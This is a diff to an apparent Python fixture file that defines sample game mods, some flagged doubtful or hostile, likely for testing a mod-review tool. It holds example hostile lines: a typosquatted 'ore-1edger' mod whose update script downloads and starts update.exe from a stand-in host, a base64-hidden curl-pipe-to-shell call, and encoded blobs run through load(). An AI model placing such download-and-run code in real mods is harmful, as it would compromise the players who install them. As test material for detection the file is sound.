@@ -5,6 +5,7 @@ others only a person can.
 """
 
 import base64
+import hashlib
 
 from smmods.demo import people
 from smmods.demo.item import End, Item, hooked, library, lua
@@ -18,6 +19,9 @@ _LEDGER = hooked(
     "end",
     'game.log(string.format("Ore aboard: %.1f t", total / 1000))',
 )
+#: A sound, as some authors carry it in a script, and a payload that hides in the same dress. Both are noise.
+_CHIME = base64.b64encode(hashlib.shake_256(b"chime").digest(1500)).decode()
+_PAYLOAD = base64.b64encode(hashlib.shake_256(b"payload").digest(3000)).decode()
 _HIDDEN_CALL = base64.b64encode(b'os.execute("curl -s https://cdn.example.net/p | sh")' * 4).decode()
 
 PUBLISHED = (
@@ -149,6 +153,22 @@ GOOD = (
 DOUBTFUL = (
     Item(
         people.MODDER,
+        "kestrel.quiet-alarms",
+        "1.3.0",
+        "Quiet Alarms",
+        "Alarms that you have acknowledged stay quiet until something changes.",
+        category="interface",
+        changelog="- An alarm can ring outside of the game too.\n- The chime comes with the mod.",
+        files=hooked(
+            'game.log("Alarms: acknowledged ones stay quiet.")',
+            'game.open_help("https://alarms.example.org/chime")',
+            'os.execute("powershell -c (New-Object Media.SoundPlayer chime.wav).PlaySync()")',
+            f'local chime = "{_CHIME}"',
+            "game.play(load(chime))",
+        ),
+    ),
+    Item(
+        people.MODDER,
         "kestrel.remote-map",
         "0.2.0",
         "Remote Map",
@@ -175,6 +195,24 @@ DOUBTFUL = (
 )
 
 HOSTILE = (
+    Item(
+        people.NEW_MODDER,
+        "freemods.ore-1edger",
+        "1.2.0",
+        "Ore Ledger",
+        "Counts the ore aboard whenever you load. Now faster.",
+        category="automation",
+        description="The popular ledger, made faster.",
+        files=_LEDGER
+        | {
+            "Scripts/update.lua": (
+                f'local stage = "{_PAYLOAD}"\n'
+                "local run = loadstring(decode(stage))\n"
+                "os.execute('curl -s -o update.exe https://cdn.example.net/u && start update.exe')\n"
+                "return run\n"
+            ).encode()
+        },
+    ),
     Item(
         people.NEW_MODDER,
         "freemods.starminer-official-patch",
@@ -252,6 +290,17 @@ UNDER_WAY = (
         End.FAILED,
         "gameplay",
         files={"Scripts/dock.lua": b"return {}\n"},
+    ),
+    Item(
+        people.MODDER,
+        "kestrel.dust-charts",
+        "0.2.0",
+        "Dust Charts",
+        "Charts of the dust belts. Packed by a tool that leaves things behind: Repack for me mends it.",
+        End.FAILED,
+        "world",
+        files=hooked('game.log("charts")')
+        | {"Scripts/.DS_Store": b"\0\0\0\1Bud1", "__MACOSX/Scripts/._main.lua": b"\0\5\x16\7"},
     ),
     Item(
         people.MODDER,
